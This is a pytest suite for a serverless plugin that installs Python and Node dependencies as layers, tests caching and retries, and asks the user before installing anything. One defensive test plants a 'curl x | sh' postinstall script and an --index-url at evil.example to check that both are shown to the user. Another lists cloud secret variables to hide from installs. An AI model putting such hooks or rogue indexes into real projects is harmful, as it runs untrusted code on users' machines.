# SPDX-License-Identifier: MIT
"""Requirements become a layer when the user asks for it, once for the same content."""

from __future__ import annotations

import contextlib
import json
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from fc_async_plugin import PluginError, s_yaml
from fc_async_plugin.prepare import environments, imports, lacks, node_packages, programs
from fc_async_plugin.prepare import layers as service_layers
from fc_async_plugin.prepare.answers import Answers
from fc_async_plugin.prepare.installing import Installer, install_packages
from fc_async_plugin.prepare.needs import Needs
from fc_async_plugin.project.layers import local_layers
from fc_async_tests.s_yaml import template

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

TEMPLATE = template(
    orders="""
        code: ./orders
        layers: [./shared]
    """,
    mailer="""
        runtime: nodejs20
        code: ./mailer
    """,
)


class Packages:
    """Stands for pip: it notes what it installs, and fails on request."""

    def __init__(self) -> None:
        self.installed: list[str] = []
        self.further: list[str] = []
        self.folders: list[Path] = []
        self.node: list[str] = []
        self.failure = ""
        self.other_versions: list[str] = []
        self.backports: Sequence[str] = ()

    def __call__(self, needs: Needs, target: Path) -> list[str]:
        target.mkdir(parents=True)
        (target / "half.py").write_text("")
        if self.failure:
            raise PluginError(self.failure)
        for name in self.backports:
            (target / name).parent.mkdir(exist_ok=True)
            (target / name).touch()
        self.installed += [needs.file.read_text()] if needs.file else []
        self.further += needs.packages
        return self.other_versions

    def install_node(self, folder: Path, packages: Sequence[str]) -> None:
        self.folders.append(folder)
        self.node += packages


@pytest.fixture
def project(tmp_path: Path) -> s_yaml.Project:
    for name in ("orders", "mailer", "shared"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "requirements.txt").write_text("left-pad==1\n")
    (tmp_path / "s.yaml").write_text(TEMPLATE)
    return s_yaml.load(tmp_path / "s.yaml")


@pytest.fixture
def packages() -> Packages:
    return Packages()


class Asking:
    """An installer that installs what was allowed, and what it has said."""

    def __init__(self, folder: Path, packages: Packages) -> None:
        self.said: list[str] = []
        self.answers = Answers(folder / "builds" / "allowed")
        self.installer = Installer(
            self.said.append, packages, folder / "layers", packages.install_node, self.answers
        )

    def allow(self, project: s_yaml.Project) -> list[str]:
        due = [one.wish for one in self.installer.due([project])]
        self.answers.keep({one.key: "" for one in due})
        return [one.text for one in due]


@pytest.fixture
def asking(tmp_path: Path, packages: Packages, monkeypatch: pytest.MonkeyPatch) -> Asking:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
    return Asking(tmp_path / ".fc-async", packages)


@pytest.fixture
def installer(tmp_path: Path, packages: Packages) -> Installer:
    folder = tmp_path / ".fc-async" / "layers"
    return Installer(lambda _: None, packages, folder, packages.install_node)


def layers(project: s_yaml.Project) -> list[str]:
    found: list[str] = project.resources[0].props["layers"]
    return found


def test_a_python_function_gets_one_more_layer_below_its_own(
    project: s_yaml.Project, installer: Installer, tmp_path: Path
):
    after = installer(project)
    added, own = layers(after)
    assert own == "./shared"
    assert added.startswith(str(tmp_path / ".fc-async" / "layers"))
    assert after.resources[1].props == project.resources[1].props


def test_a_layer_does_not_hide_the_standard_library(
    project: s_yaml.Project, installer: Installer, packages: Packages
):
    packages.backports = ("enum/__init__.py", "typing.py", "enumerate.py", "typing-3.dist-info/a")
    added, _ = layers(installer(project))
    kept = sorted(one.name for one in Path(added, "python").iterdir())
    assert kept == ["enumerate.py", "half.py", "typing-3.dist-info"]


def test_what_cannot_be_installed_is_tried_again_after_a_change(
    project: s_yaml.Project, asking: Asking, packages: Packages, tmp_path: Path
):
    packages.failure = "left-pad cannot be installed"
    asking.allow(project)
    for _ in range(2):
        with pytest.raises(PluginError, match="left-pad cannot be installed"):
            asking.installer(project)
    said = [one for one in asking.said if one.startswith("installing")]
    assert len(said) == 1
    packages.failure = ""
    (tmp_path / "orders" / "index.py").write_text("changed = True\n")
    asking.installer(project)
    assert packages.installed == ["left-pad==1\n"]


def test_the_same_requirements_are_installed_once(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    first = layers(installer(project))
    assert layers(installer(project)) == first
    (tmp_path / "orders" / "requirements.txt").write_text("left-pad==2\n")
    assert layers(installer(project)) != first
    assert packages.installed == ["left-pad==1\n", "left-pad==2\n"]


def test_an_installation_that_failed_leaves_no_layer_and_is_tried_again(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    packages.failure = "no such package"
    for _ in range(2):
        with pytest.raises(PluginError, match="no such package"):
            installer(project)
    kept = [path.name for path in (tmp_path / ".fc-async" / "layers").iterdir()]
    assert kept == []


def test_the_message_of_pip_is_passed_on(tmp_path: Path):
    file = tmp_path / "requirements.txt"
    file.write_text("./there-is-no-such-package\n")
    with pytest.raises(PluginError, match=r"cannot be installed:\n.*there-is-no-such-package"):
        install_packages(Needs(file), tmp_path / "layer")


def a_wheel(folder: Path, *modules: str) -> None:
    """Write a package ``left-pad`` that pip can install without a network."""
    about = "left_pad-1.dist-info"
    files = {
        **dict.fromkeys(modules, ""),
        f"{about}/METADATA": "Metadata-Version: 2.1\nName: left-pad\nVersion: 1\n",
        f"{about}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in [*files, f"{about}/RECORD"])
    with zipfile.ZipFile(folder / "left_pad-1-py3-none-any.whl", "w") as wheel:
        for name, text in {**files, f"{about}/RECORD": record}.items():
            wheel.writestr(name, text)


def test_a_path_in_requirements_is_relative_to_their_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    code, elsewhere = tmp_path / "code", tmp_path / "elsewhere"
    code.mkdir()
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    a_wheel(code, "left_pad.py")
    (code / "requirements.txt").write_text("./left_pad-1-py3-none-any.whl\n")
    install_packages(Needs(Path("../code/requirements.txt")), Path("layer"))
    assert (elsewhere / "layer" / "left_pad.py").is_file()


def changed(folder: Path, *replaced: tuple[str, str]) -> s_yaml.Project:
    text = TEMPLATE
    for old, new in replaced:
        text = text.replace(old, new)
    (folder / "s.yaml").write_text(text)
    return s_yaml.load(folder / "s.yaml")


def test_requirements_of_a_custom_runtime_are_installed(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    _, own = layers(installer(changed(tmp_path, ("python3.10", "custom.debian10"))))
    assert own == "./shared"
    assert packages.installed == ["left-pad==1\n"]


def test_dependencies_of_node_are_installed_beside_their_file_if_they_are_not_there(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    mailer = tmp_path / "mailer"
    (mailer / "package.json").write_text('{"name": "mailer", "dependencies": {"left-pad": "1"}}')
    installer(project)
    assert packages.folders == [mailer]
    (mailer / "node_modules" / "left-pad").mkdir(parents=True)
    installer(project)
    assert packages.folders == [mailer]


@pytest.mark.parametrize("text", ["{}", "no json", '{"dependencies": {}}', '{"dependencies": 1}'])
def test_a_package_json_without_dependencies_needs_no_installation(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path, text: str
):
    (tmp_path / "mailer" / "package.json").write_text(text)
    installer(project)
    assert packages.folders == []


def test_what_the_runtime_or_a_public_layer_brings_is_installed_too(
    project: s_yaml.Project,
    installer: Installer,
    packages: Packages,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    monkeypatch.setattr("importlib.util.find_spec", lambda _: None)
    (tmp_path / "orders" / "index.py").write_text("import oss2, left_pad\n")
    layer = "acs:fc:cn-hangzhou:official:layers/Python3-Flask2x/versions/1"
    after = installer(changed(tmp_path, ("[./shared]", f"[./shared, '{layer}']")))
    assert packages.further == ["flask>=2.2,<3", "oss2"]
    assert packages.installed == ["left-pad==1\n"]
    assert len(layers(after)) == 3


def test_a_requirement_hides_the_same_package_of_a_layer(
    project: s_yaml.Project,
    installer: Installer,
    packages: Packages,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    monkeypatch.setattr("importlib.util.find_spec", lambda _: None)
    (tmp_path / "orders" / "requirements.txt").write_text("Flask==3.0.0\n")
    layer = "acs:fc:cn-hangzhou:official:layers/Python3-Flask2x/versions/1"
    installer(changed(tmp_path, ("[./shared]", f"['{layer}']")))
    assert (packages.installed, packages.further) == (["Flask==3.0.0\n"], [])


def test_another_version_than_the_exact_one_is_said(
    project: s_yaml.Project, packages: Packages, asking: Asking
):
    packages.other_versions = ["left-pad==1"]
    asking.allow(project)
    asking.installer(project)
    assert "orders: left-pad==1 cannot be installed; a newer one is" in asking.said


def test_an_exact_version_that_cannot_be_installed_is_the_oldest_one_that_will_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    tried: list[str] = []

    def pip(command: Sequence[str], what: object, cwd: Path | None = None) -> None:
        del what, cwd
        text = Path(command[command.index("--requirement") + 1]).read_text()
        tried.append(text)
        for line in text.splitlines():
            name, exact, _ = line.partition("==")
            if exact and name != "other":
                raise PluginError(f"ERROR: No matching distribution found for {name}==1")

    monkeypatch.setattr("fc_async_plugin.prepare.programs.install", pip)
    file = tmp_path / "requirements.txt"
    file.write_text("left-pad[x]==1  # old\nright-pad==1\nother==2\n")
    (tmp_path / "draft").mkdir()
    taken = install_packages(Needs(file), tmp_path / "draft" / "python")
    assert taken == ["left-pad[x]==1  # old", "right-pad==1"]
    assert tried[-1] == "left-pad[x]>=1  # old\nright-pad>=1\nother==2\n"
    assert file.read_text().startswith("left-pad[x]==1")


def test_a_package_that_the_node_runtime_ships_becomes_a_layer(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    code = "const OSS = require('ali-oss/lib'); require('left-pad'); require('body/form');\n"
    (tmp_path / "mailer" / "index.js").write_text(code)
    after = installer(project)
    assert packages.node == ["ali-oss", "body"]
    assert [folder.name for folder in packages.folders] == ["nodejs"]
    [layer] = after.resources[1].props["layers"]
    assert layer.startswith(str(tmp_path / ".fc-async" / "layers"))
    installer(project)
    assert packages.node == ["ali-oss", "body"]


def test_what_a_node_function_loads_and_no_installation_brings_is_said_at_start(
    project: s_yaml.Project, tmp_path: Path
):
    code = "require('ali-oss'); require('declared'); require('lacking'); require('./gone');\n"
    (tmp_path / "mailer" / "index.js").write_text(code)
    write = "write lacking into mailer/package.json, then fc-async dev --install"
    gone = "mailer/index.js:1: mailer imports ./gone, which does not exist: build or write it"
    absent = [
        str(found.lack) for found in node_packages.absent_imports([project]) if not found.mark
    ]
    assert absent[1].endswith(f"mailer imports lacking, which is not on this machine: {write}")
    assert absent[2:] == [gone]
    (tmp_path / "mailer" / "package.json").write_text('{"dependencies": {"declared": "1"}}')
    assert [str(found.lack) for found in node_packages.absent_imports([project])] == [gone]


def test_layers_of_the_service_are_said_with_what_stands_in_for_them(
    project: s_yaml.Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("shutil.which", lambda name: "/usr/bin/node" if name == "node" else None)
    names = [
        "official:layers/Nodejs20/versions/1",
        "acs:fc:cn-hangzhou:official:layers/Java17/versions/1",
        "official:layers/Python310-Package-Collection/versions/1",
        "acs:fc:cn-hangzhou:123:layers/own/versions/1",
        "8c1639b249a5b5972e5eb2b41510200a#own#2",  # as FC 2.0 names it
    ]
    found = changed(tmp_path, ("[./shared]", f"[{', '.join(map(repr, names))}]"))
    assert service_layers.notes([found], install=False) == [
        "layer Nodejs20 of orders: node of this machine is used instead"
    ]
    unknown = (
        "which is not on this machine: write a folder or a zip of its files in its place in "
        "layers, for this machine alone in env.yaml: fc-async dev --env"
    )
    assert [str(lack) for lack in lacks.of_layers([found], install=False)] == [
        "orders has the layer Java17, which is not on this machine: install java",
        f"orders has the layer Python310-Package-Collection, {unknown}",
        f"orders has the layer acs:fc:cn-hangzhou:123:layers/own/versions/1, {unknown}",
        f"orders has the layer 8c1639b249a5b5972e5eb2b41510200a#own#2, {unknown}",
    ]


def test_a_folder_stands_for_a_layer_of_another_account_in_an_environment(
    project: s_yaml.Project, tmp_path: Path
):
    named = changed(tmp_path, ("[./shared]", "['acs:fc:cn-hangzhou:123:layers/own/versions/1']"))
    assert len([*lacks.of_layers([named], install=False)]) == 1
    layers = "overlays: {resources: {orders: {layers: [./shared]}}}"
    (tmp_path / "env.yaml").write_text(f"environments: [{{name: here, {layers}}}]")
    found = s_yaml.load(tmp_path, env="here")
    assert [*lacks.of_layers([found], install=False)] == []
    assert local_layers(found, found.resources[0]) == (tmp_path / "./shared",)


def test_packages_of_node_are_installed_into_the_folder_of_a_relative_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    npm = tmp_path / "npm"
    npm.write_text('#!/bin/sh\necho "$PWD|$*" > "$(dirname "$0")/called"\n')
    npm.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    monkeypatch.chdir(tmp_path)
    node_packages.install(Path("layer"), ["ali-oss"])
    place, _, command = (tmp_path / "called").read_text().strip().partition("|")
    assert place == str(tmp_path / "layer")
    assert command.endswith(f"--prefix {tmp_path / 'layer'} -- ali-oss")


def test_what_npm_refuses_is_installed_whole_and_without_the_lock_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    npm = tmp_path / "npm"
    npm.write_text('#!/bin/sh\necho "$*" >> "$(dirname "$0")/called"\ntest "$1" != ci\n')
    npm.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    (tmp_path / "package-lock.json").write_text("{}")
    node_packages.install(tmp_path, [])
    first, second = (tmp_path / "called").read_text().splitlines()
    assert first.startswith("ci --omit=dev")
    assert second == "install --no-package-lock --legacy-peer-deps"


def test_dependencies_are_installed_by_the_package_manager_of_the_lock_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    for name in ("npm", "npx"):
        (tmp_path / name).write_text(f'#!/bin/sh\necho "{name} $*" >> "$(dirname "$0")/called"\n')
        (tmp_path / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    (tmp_path / "pnpm-lock.yaml").write_text("")
    node_packages.install(tmp_path, [])
    assert (tmp_path / "called").read_text() == "npx --yes pnpm install\n"


@pytest.mark.skipif(sys.version_info < (3, 11), reason="pyproject.toml is read from 3.11 on")
def test_a_program_without_requirements_gets_those_of_its_project(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
):
    (tmp_path / "orders" / "requirements.txt").unlink()
    (tmp_path / "orders" / "pyproject.toml").write_text(
        '[project]\nname = "orders"\ndependencies = ["left-pad[x]>=1", "pytest"]\n'
    )
    start = "runtime: custom\n      customRuntimeConfig: {command: [python, app.py]}"
    installer(changed(tmp_path, ("runtime: python3.10", start)))
    assert packages.further == ["left-pad[x]>=1"]


def test_nothing_is_installed_before_it_is_allowed_and_each_change_is_asked_for(
    project: s_yaml.Project, packages: Packages, asking: Asking, tmp_path: Path
):
    (tmp_path / "mailer" / "package.json").write_text('{"dependencies": {"left-pad": "1"}}')
    asking.installer(project)
    assert packages.installed == packages.folders == []
    wishes = [
        "orders: install requirements.txt  (in orders)",
        "mailer: install package.json  (in mailer)",
    ]
    later = "fc-async dev asks when it starts"
    assert asking.said == [f"not installed: {one}; {later}" for one in wishes]
    assert asking.allow(project) == wishes
    asking.installer(project)
    assert packages.installed == ["left-pad==1\n"]
    assert packages.folders == [tmp_path / "mailer"]
    (tmp_path / "orders" / "requirements.txt").write_text("left-pad==2\n")
    asking.said.clear()
    asking.installer(project)
    assert packages.installed == ["left-pad==1\n"]
    assert asking.allow(project) == wishes
    asking.installer(project)
    assert packages.installed == ["left-pad==1\n", "left-pad==2\n"]


def test_an_installation_sees_no_key_of_the_cloud(monkeypatch: pytest.MonkeyPatch):
    hidden = (
        "ALIBABA_CLOUD_ACCESS_KEY_SECRET",
        "ALICLOUD_SECRET_KEY",
        "AccessKeySecret",
        "FC_ASYNC_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
    )
    needed = ("PIP_INDEX_URL", "NPM_TOKEN", "FC_ASYNC_ENDPOINT")
    for name in (*hidden, *needed):
        monkeypatch.setenv(name, f"value of {name}")
    seen = programs.run("env").output
    assert [name for name in (*hidden, *needed) if f"value of {name}" in seen] == [*needed]


def test_the_question_shows_the_packages_and_the_scripts_of_an_installation(
    project: s_yaml.Project, asking: Asking, tmp_path: Path
):
    package = {"dependencies": {"left-pad": "1"}, "scripts": {"postinstall": "curl x | sh"}}
    (tmp_path / "mailer" / "package.json").write_text(json.dumps(package))
    text = "--index-url https://evil.example\n# a comment\nleft-pad==1\u200b\n"
    (tmp_path / "orders" / "requirements.txt").write_text(text)
    shown = [line for one in asking.installer.due([project]) for line in one.wish.question]
    assert shown == [
        "orders: install requirements.txt  (in orders)",
        "  --index-url https://evil.example",
        r"  left-pad==1\u200b",
        "mailer: install package.json  (in mailer)",
        "  package.json, postinstall: curl x | sh",
    ]


def test_requirements_that_this_machine_has_are_not_asked_for(
    project: s_yaml.Project, asking: Asking, tmp_path: Path
):
    (tmp_path / "orders" / "requirements.txt").write_text("msgspec\nrequests==1\n")
    assert asking.allow(project) == []
    (tmp_path / "orders" / "index.py").write_text("import scrapy\n")
    assert asking.allow(project) == ["orders: install requirements.txt, scrapy  (in orders)"]


def environment(place: Path) -> None:
    """Make a virtual environment that has the package left-pad."""
    packages = place / "lib" / f"python3.{sys.version_info.minor}" / "site-packages"
    (packages / "left_pad-1.dist-info").mkdir(parents=True)
    (packages / "left_pad-1.dist-info" / "METADATA").write_text("Name: left-pad\nVersion: 1\n")
    (packages / "left_pad.py").write_text("")


@pytest.mark.parametrize("active", [False, True])
def test_packages_of_the_projects_own_environment_are_used_and_not_installed(
    project: s_yaml.Project,
    asking: Asking,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    active: bool,
):
    place = tmp_path / ("active" if active else ".venv")
    environment(place)
    if active:
        monkeypatch.setenv("VIRTUAL_ENV", str(place))
    used = environments.used(project)
    assert asking.allow(used.project) == []
    [path] = used.project.resources[0].props["environmentVariables"].values()
    assert path.startswith(str(place))
    note = "are used; in the cloud, only those of requirements.txt"
    assert used.note == f"orders: packages of {place.name} {note}"


def test_a_custom_runtime_finds_the_commands_of_the_projects_own_environment(
    project: s_yaml.Project, asking: Asking, tmp_path: Path
):
    environment(tmp_path / ".venv")
    custom = environments.used(changed(tmp_path, ("python3.10", "custom.debian10")))
    variables = custom.project.resources[0].props["environmentVariables"]
    assert variables["PATH"] == str(tmp_path / ".venv" / "bin")


def test_a_function_that_lacks_nothing_stays_as_it_is(
    project: s_yaml.Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
    environment(tmp_path / ".venv")
    (tmp_path / "orders" / "requirements.txt").write_text("msgspec\n")
    assert environments.used(project) == (project, "")


def test_an_import_that_only_the_projects_own_environment_has_is_found_there(
    project: s_yaml.Project, asking: Asking, tmp_path: Path
):
    environment(tmp_path / ".venv")
    (tmp_path / "orders" / "requirements.txt").unlink()
    (tmp_path / "orders" / "index.py").write_text("import left_pad\n")
    used = environments.used(project)
    assert [*imports.absent(project)] != []
    assert [*imports.absent(used.project)] == []


def test_what_a_build_has_installed_into_the_code_is_not_installed_again(
    project: s_yaml.Project, installer: Installer, packages: Packages, tmp_path: Path
) -> None:
    """``pip install -t`` in a build, then the same packages once more in a layer."""
    for folder in ("orders", "mailer"):
        info = tmp_path / folder / "left_pad-1.dist-info"
        info.mkdir()
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: left-pad\nVersion: 1\n")
    installer(project)
    assert packages.installed == []


def test_nothing_is_installed_into_what_a_build_has_made(
    tmp_path: Path, installer: Installer, packages: Packages
) -> None:
    """The output of a build got 472 MB of packages that the build had left out."""
    file = tmp_path / "orders" / "package.json"
    file.parent.mkdir()
    file.write_text('{"dependencies": {"left-pad": "1"}}')
    (tmp_path / "s.yaml").write_text(TEMPLATE.replace("python3.10", "nodejs20"))
    installer.leave_alone([tmp_path / "orders"])
    installer(s_yaml.load(tmp_path / "s.yaml"))
    assert packages.folders == []


def test_an_installation_into_the_code_runs_where_writes_are_told(
    tmp_path: Path, installer: Installer, packages: Packages
) -> None:
    file = tmp_path / "orders" / "package.json"
    file.parent.mkdir()
    file.write_text('{"dependencies": {"left-pad": "1"}}')
    (tmp_path / "s.yaml").write_text(TEMPLATE.replace("python3.10", "nodejs20"))
    installed: list[list[Path]] = []

    @contextlib.contextmanager
    def writing() -> Iterator[None]:
        yield
        installed.append([*packages.folders])

    installer.write_within(writing)
    installer(s_yaml.load(tmp_path / "s.yaml"))
    assert installed == [[tmp_path / "orders"]]
